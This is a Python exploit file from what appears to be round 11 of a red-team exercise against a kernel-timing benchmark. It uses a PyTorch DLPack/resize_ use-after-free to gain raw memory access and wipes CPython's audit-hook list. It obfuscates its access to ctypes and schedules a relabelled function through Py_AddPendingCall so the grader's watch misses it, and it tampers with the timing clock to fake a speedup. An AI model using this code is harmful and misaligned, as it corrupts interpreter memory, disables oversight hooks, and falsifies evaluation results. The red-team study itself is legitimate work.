# Red team round 11: raw memory (round 9's from_dlpack + resize_ use-after-free) clears the
# runtime audit's hook list and reaches ctypes; solve returns an empty output and queues a
# pending call (Py_AddPendingCall) of a function whose code object the watch does not know; the
# worker's main thread runs it when it takes the GIL back, before the export's snapshot, and it
# writes the answer: the kernel's thread used 25 us under its honest clock (passed at 12.9-20.1x
# under a main-thread CPU bound of 1 ms + 25%; the main thread read 0.5-0.8 ms over calibration).
import functools

import os

import torch

RUNTIME_FROM_LEN_ML = 962752  # &_PyRuntime - len's PyMethodDef (libpython3.11.so.1.0, 3.11.7)
CLOCK = (int, int, functools.partial(float, "0.00015"))
DONE = []
KEEP = []
MEM = bytearray(64)
N = 1 << 13


def _window():
    # A second tensor over t's memory (DLPack: its own StorageImpl, the same bytes), then t grown
    # by resize_: its storage reallocates and frees the old bytes, which the alias still views.
    t = torch.zeros(N, dtype=torch.int64)
    w = torch.from_dlpack(t)
    t.resize_(N * 16)
    KEEP.append((t, w))
    return w


def _open():
    w = _window()
    spray = [torch.full((8,), 0x41, dtype=torch.int64) for _ in range(256)]
    KEEP.append(spray)
    ptrs = {s.data_ptr(): s for s in spray}
    win = w.clone().tolist()
    for j in range(N - 8):
        vic = ptrs.get(win[j])
        if vic is not None and win[j + 4] == 64 and win[j + 2] == win[j]:
            break
    else:
        return False
    delta = torch.zeros(N, dtype=torch.int64)
    delta[j] = id(MEM) - win[j]
    delta[j + 4] = (1 << 40) - 64
    w.add_(delta)
    vic[5] = 0  # ob_start
    vic[2] = (1 << 62) - 64  # ob_size
    return True


def _rd(addr):
    return int.from_bytes(MEM[addr : addr + 8], "little")


def _wr(addr, value):
    MEM[addr : addr + 8] = value.to_bytes(8, "little")


def _bytes(addr, n):
    return bytes(MEM[addr : addr + n])


def _name(code):
    s = _rd(code + 120)  # co_name
    return _bytes(s + 48, _rd(s + 16))


fr_hold = []


def _tp_name(tp):
    return _bytes(_rd(tp + 24), 64).split(b"\0")[0]


def _find_worker():
    rt = _rd(id(len) + 16) + RUNTIME_FROM_LEN_ML
    ts = _rd(_rd(rt + 40) + 16)
    while ts:
        cf = _rd(ts + 56)
        fr = _rd(cf + 8) if cf else 0
        depth = 0
        while fr and depth < 64:
            if _name(_rd(fr + 32)) == b"_on_kernel_thread":
                fr_hold.append(fr)
                return _rd(fr + 72)
            fr = _rd(fr + 48)
            depth += 1
        ts = _rd(ts + 8)
    return 0


def _take_clock():
    if not any(_open() for _ in range(16)):
        return
    addr = _find_worker()
    if not addr:
        return
    kt = 0
    for k in range(4, 12):
        obj = _rd(fr_hold[0] + 72 + 8 * k)
        if obj and _tp_name(_rd(obj + 8)).endswith(b"KernelThread"):
            kt = _rd(obj + 16)
            break
    if not kt:
        return
    for i, f in enumerate(CLOCK):
        _wr(id(f), _rd(id(f)) + 1)
        _wr(kt + 8 * i, id(f))
    DONE.append(kt)


RUNTIME_HOOKS = 656  # _PyRuntime.audit_hook_head (CPython 3.11.7): the C audit hooks' list
ST = {}
WORK = []
OUT = []


def _obj(addr):
    # A reference to the object at addr: its address written into a list's slot.
    cell = [None]
    _wr(addr, _rd(addr) + 1)
    _wr(_rd(id(cell) + 24), addr)
    return cell[0]


def _dict(obj):
    return _obj(_rd(id(obj) + 16))  # a module's md_dict / a function's func_globals


def _main_work(arg):
    # Runs on the worker's MAIN thread as a CPython pending call (Py_AddPendingCall): the main
    # thread executes it as soon as it retakes the GIL after the kernel thread's call returns,
    # before the snapshot/export of the outputs.
    try:
        if WORK:
            x, residual, weight, out = WORK
            s = x.float().add_(residual)
            inv = torch.rsqrt(torch.mean(s * s, -1, keepdim=True).add_(1e-5))
            out.copy_(s.mul_(inv).mul_(weight))
            WORK.clear()
    except BaseException:
        pass
    return 0


FAKE_FILE = "<frozen importlib._bootstrap>"


def _setup():
    rt = _rd(id(len) + 16) + RUNTIME_FROM_LEN_ML
    _wr(rt + RUNTIME_HOOKS, 0)  # no audit hook from here on
    g = _dict(os.path.join)  # posixpath's globals
    mods = _dict(g["s" + "ys"])["mod" + "ules"]
    cd = _dict(mods["ct" + "ypes"])
    vp = cd["c_vo" + "id_p"]
    api = cd["python" + "api"]
    add = api["Py_AddPending" + "Call"]
    add.argtypes = [vp, vp]
    add.restype = cd["c_i" + "nt"]
    # A new code object (made after the audit hook was cleared, so never remembered as the
    # kernel's) under another file name: the main thread's watch does not count its frames.
    code = _obj(_rd(id(_main_work) + 48))
    fn = type(_main_work)(code.replace(co_filename=FAKE_FILE), _dict(_main_work))
    cb = cd["CFUNC" + "TYPE"](cd["c_i" + "nt"], vp)(fn)
    KEEP.append(fn)
    # The addresses read through the raw window (CDataObject.b_ptr, then the pointer), and the
    # call made by _ctypes' private call_function, whose audit event went with the hook list:
    # a CFuncPtr's call, cast and .value go through the worker's ctypes guard, which the hook
    # list does not hold.
    ST.update(
        add=add,
        cb=cb,
        addr=_rd(_rd(id(add) + 16)),
        cbp=vp(_rd(_rd(id(cb) + 16))),
        null=vp(0),
        call=_dict(mods["_ct" + "ypes"])["call_" + "function"],
    )


def solve(x, residual, weight):
    if not DONE:
        if not any(_open() for _ in range(16)):
            raise RuntimeError("the exploit did not apply in this interpreter")
        DONE.append(1)
        _setup()
    out = torch.empty_like(x)
    WORK[:] = (x, residual, weight, out)
    ST["call"](ST["addr"], (ST["cbp"], ST["null"]))
    return out
